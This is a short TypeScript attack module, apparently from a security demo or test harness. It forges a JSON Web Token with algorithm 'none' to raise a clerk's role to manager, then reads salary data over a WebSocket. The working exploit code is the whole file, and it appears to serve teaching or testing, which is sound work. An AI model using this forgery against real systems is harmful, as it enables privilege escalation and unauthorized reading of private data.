// ann is a clerk, and has a token that says so. She writes another one, which says that it needs no signature.
import { WebSocket } from "ws";

import type { Attempt } from "../../attempt.ts";
import { annsClaims, encode } from "./desk-token.ts";

/** Reads what only managers may. */
export function attack({ url, origin, say }: Attempt): Promise<boolean> {
  const forged = `${encode({ alg: "none" })}.${encode({ ...annsClaims, role: "manager" })}.`;
  say(`> a token of ann's own making: {"alg":"none"} {"sub":"ann","role":"manager", …} and no signature`);
  say(`> GET ${url}?token=${forged.slice(0, 24)}…, where every log keeps it`);
  const socket = new WebSocket(`${url}?token=${forged}`, { origin });
  return new Promise((done) => {
    socket.on("open", () => socket.send("salaries"));
    socket.on("message", (data) => {
      say(`< ${String(data)}`);
      socket.close();
      done(String(data).includes("9400"));
    });
    socket.on("error", ({ message }) => {
      say(`< ${message}`);
      done(false);
    });
  });
}
